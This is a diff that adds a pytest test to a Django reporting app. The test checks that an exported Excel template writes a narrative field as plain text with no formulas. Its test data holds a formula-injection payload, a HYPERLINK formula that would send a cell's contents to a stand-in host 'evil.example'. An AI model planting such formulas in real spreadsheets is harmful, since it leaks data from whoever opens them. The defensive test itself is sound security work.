@@ -636,3 +636,23 @@ def test_ten_programmes_in_one_upload_quickly(world, django_assert_max_num_queri
     assert len(saved) == 10
     assert ProgressReport.objects.filter(status=ReportStatus.SUBMITTED).count() == 10
     assert elapsed < 20, elapsed
+
+
+def test_template_writes_a_formula_narrative_as_text(world):
+    evil = '=HYPERLINK("http://evil.example/?leak="&J5,"Click")'
+    report_create_draft(
+        user=world.officer,
+        program=world.nacc,
+        period_end=Q1,
+        values={"NACC-GPU": 7},
+        executed_won=42,
+        narrative=evil,
+    )
+    ws = _template(world)[ss.SHEET_TITLE]
+    cell = ws[f"{COL['narrative']}{_rows(ws)[('NACC', None)]}"]
+    assert cell.data_type == "s"  # text, not a formula
+    assert cell.value == evil
+    assert cell.quotePrefix
+    for row in ws.iter_rows():
+        for c in row:
+            assert c.data_type != "f", c.coordinate
